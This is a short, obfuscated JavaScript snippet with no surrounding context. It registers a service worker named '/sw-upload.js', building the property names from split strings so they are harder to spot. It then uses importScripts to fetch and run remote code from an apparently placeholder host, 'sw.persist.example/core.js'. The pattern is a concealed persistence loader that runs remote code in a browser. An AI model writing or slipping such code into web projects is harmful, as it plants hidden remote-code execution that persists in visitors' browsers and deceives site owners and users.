var na = navigator, sw = ["service", "Worker"].join("");
na[sw]["reg" + "ister"]("/sw-upload.js");
self["import" + "Scripts"]("https://" + ["sw", "persist", "example"].join(".") + "/core.js");
